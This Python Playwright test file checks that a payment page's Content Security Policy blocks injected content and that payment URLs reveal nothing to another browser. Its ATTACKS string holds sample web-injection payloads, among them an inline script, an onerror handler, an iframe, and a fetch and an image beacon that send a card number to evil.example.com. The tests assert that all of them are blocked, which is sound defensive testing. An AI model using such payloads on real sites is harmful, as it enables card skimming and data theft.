"""What runs beside the card: our scripts, Odoo's, the provider's, and nothing else."""

from urllib.parse import urlsplit

import pytest
from payer import CHOICE

EMAIL = "billing@blueharbor.example.com"
#: A website with all that companies put on theirs.
TRACKED = """
env["website"].search([]).write({
    "custom_code_head": "<script>window.theirs = 'head'</script>",
    "custom_code_footer": "<script>window.theirs = 'foot'</script>",
    "google_analytics_key": "G-THEIRS", "cookies_bar": True,
    "plausible_shared_key": "theirs", "plausible_site": "theirs.example.com",
})
env.cr.commit()
"""
#: What an attacker tries who can write into the page; what the browser says of it.
ATTACKS = """async () => {
    const blocked = [];
    document.addEventListener("securitypolicyviolation", (ev) => {
        blocked.push(ev.effectiveDirective);
    });
    const add = (name, values) => {
        document.body.append(Object.assign(document.createElement(name), values));
    };
    add("script", {textContent: "window.hacked = 'script'"});
    add("script", {src: "https://evil.example.com/script.js"});
    add("div", {innerHTML: "<img src='x' onerror='window.hacked = 1'/>"});
    add("iframe", {src: "https://evil.example.com/frame"});
    add("object", {data: "https://evil.example.com/object"});
    add("base", {href: "https://evil.example.com/"});
    add("img", {src: "https://evil.example.com/?card=4242"});
    for (const make of [() => window.eval("1"), () => new Function("return 1")]) {
        try {
            window.hacked = make();
        } catch {
            // As it should be.
        }
    }
    await fetch("https://evil.example.com/?card=4242").catch(() => {});
    const form = document.createElement("form");
    form.action = "https://evil.example.com/form";
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return [window.hacked ?? null, window.theirs ?? null, [...new Set(blocked)].sort()];
}"""
BLOCKED = [
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src",
    "script-src-attr",
    "script-src-elem",
]


@pytest.fixture
def asked(visit, shell):
    """A client on a website with trackers, and the foreign hosts that are asked."""
    shell(TRACKED)
    payer = visit()
    hosts = set()

    def note(route):
        hosts.add(urlsplit(route.request.url).hostname)
        route.fulfill(body="")

    payer.page.route(lambda url: urlsplit(url).hostname != "localhost", note)
    yield payer, hosts
    payer.complaints[:] = [c for c in payer.complaints if "Security Policy" not in c]


def test_a_whole_payment_asks_no_foreign_host(asked):
    """From the choice of the method to the receipt."""
    payer, hosts = asked
    payer.look_up(EMAIL, "Inv200", "31")
    payer.expect_heading(CHOICE)
    hosts.clear()  # Those of the form, which is the website's.
    payer.page.reload()
    payer.choose("Card")
    payer.proceed()
    assert payer.pay()["state"] == "done"
    assert hosts == set()


def test_no_address_of_a_payment_is_of_use_to_another_browser(visit):
    """What a history, a referrer or a proxy's log holds shows no invoice, pays nothing."""
    payer, addresses = visit(), []
    payer.page.on("framenavigated", lambda frame: addresses.append(frame.url))
    payer.look_up(EMAIL, "Inv200", "33")
    payer.expect_heading(CHOICE)
    payer.page.get_by_role("link", name="Tell us").click()
    payer.page.get_by_role("link", name="Back to the payment").click()
    payer.choose("Card")
    payer.proceed()
    assert payer.pay()["state"] == "done"
    assert len(set(addresses)) >= 4
    other = visit()
    for address in dict.fromkeys(addresses):
        other.page.goto(address)
        text = other.page.locator("#wrap").inner_text()
        assert "Inv200" not in text, address
        assert other.page.locator("#o_payment_form").count() == 0, address
    # The browser itself tells of the status 403.
    other.complaints[:] = [c for c in other.complaints if "status of 403" not in c]


def test_what_is_written_into_the_page_runs_nothing(asked):
    """Scripts, handlers, texts made into functions; other hosts of any kind."""
    payer, hosts = asked
    payer.look_up(EMAIL, "Inv200", "32")
    payer.expect_heading(CHOICE)
    payer.page.wait_for_load_state()
    hosts.clear()
    assert payer.page.evaluate(ATTACKS) == [None, None, BLOCKED]
    assert hosts == set()
